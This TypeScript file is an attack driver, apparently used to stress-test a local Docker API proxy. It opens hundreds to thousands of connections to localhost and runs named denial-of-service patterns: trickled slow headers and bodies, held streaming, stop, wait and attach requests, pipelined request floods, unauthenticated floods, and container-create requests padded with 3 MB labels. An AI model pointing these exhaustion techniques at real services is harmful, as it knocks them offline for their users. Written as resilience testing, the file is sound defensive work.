// A caller that wants everything for itself, in a process of its own: `attacker.ts ATTACK PORT TOKEN`, until it is killed.
// Prints `at it` once the attack is under way.
import net, { type Socket } from 'node:net';

const [attack = '', port = '', token = ''] = process.argv.slice(2);

const sockets = new Set<Socket>();
function connect(onOpen: (socket: Socket) => void, onOver: () => void = () => {}): void {
  const socket = net.connect({ port: Number(port), host: '127.0.0.1' });
  sockets.add(socket);
  socket.on('error', () => {});
  socket.on('connect', () => onOpen(socket));
  socket.on('data', () => {});
  socket.on('close', () => {
    sockets.delete(socket);
    onOver();
  });
}

const head = (line: string, headers: readonly string[] = [], known = true): string =>
  `${[`${line} HTTP/1.1`, 'Host: docker', ...(known ? [`Authorization: Bearer ${token}`] : []), ...headers].join('\r\n')}\r\n\r\n`;

/** So many connections with one text each, some at a time; those that were closed come back after a while. */
function hold(count: number, text: string, then: (socket: Socket) => void = () => {}): void {
  const open = (): void =>
    connect(
      (socket) => {
        if (text !== '') socket.write(text);
        then(socket);
      },
      () => setTimeout(open, 250),
    );
  let left = count;
  const some = setInterval(() => {
    for (let i = 0; i < 50 && left > 0; i++, left--) open();
    if (left > 0) return;
    clearInterval(some);
    console.log('at it');
  }, 10);
}

/** So many connections that ask again as soon as they are answered. */
function loop(count: number, text: string): void {
  for (let i = 0; i < count; i++) {
    const open = (): void =>
      connect(
        (socket) => {
          socket.write(text);
          // An answer ends with what was read last; asking once more than needed is part of the attack.
          socket.on('data', (data: Buffer) => {
            if (data.length < 60_000) socket.write(text);
          });
        },
        () => setTimeout(open, 20),
      );
    open();
  }
  setTimeout(() => console.log('at it'), 300);
}

const trickle =
  (bytes: string) =>
  (socket: Socket): void => {
    const timer = setInterval(() => socket.write(bytes), 1000);
    socket.on('close', () => clearInterval(timer));
  };
const json = (length: number) => ['Content-Type: application/json', `Content-Length: ${length}`];
const labels = JSON.stringify({ Image: 'busybox', Labels: { fill: 'x'.repeat(3_000_000) } });

const attacks: Record<string, () => void> = {
  streams: () => hold(520, head('GET /events')),
  stops: () => hold(520, head('POST /containers/x/stop?t=600', ['Content-Length: 0'])),
  waits: () => hold(520, head('POST /containers/x/wait', ['Content-Length: 0'])),
  attaches: () =>
    hold(
      520,
      head('POST /containers/x/attach?stream=1&stdin=1', ['Connection: Upgrade', 'Upgrade: tcp', 'Content-Length: 0']),
    ),
  pipelining: () => hold(100, head('GET /containers/json').repeat(300)),
  'pipelining-unknown': () => hold(100, head('GET /containers/json', [], false).repeat(300)),
  silent: () => hold(1100, ''),
  'slow-heads': () => hold(2000, 'GET /containers/json HTTP/1.1\r\nHost: x\r\nX-Slow: ', trickle('y')),
  'slow-bodies': () => hold(2000, head('POST /containers/create', json(100_000)), trickle(' ')),
  labels: () => loop(4, head('POST /containers/create', json(labels.length)) + labels),
  volumes: () => loop(4, head('GET /volumes')),
  lists: () => loop(8, head('GET /containers/json?all=1')),
  unknown: () => loop(32, head('GET /containers/json', [], false)),
};
attacks[attack]?.();
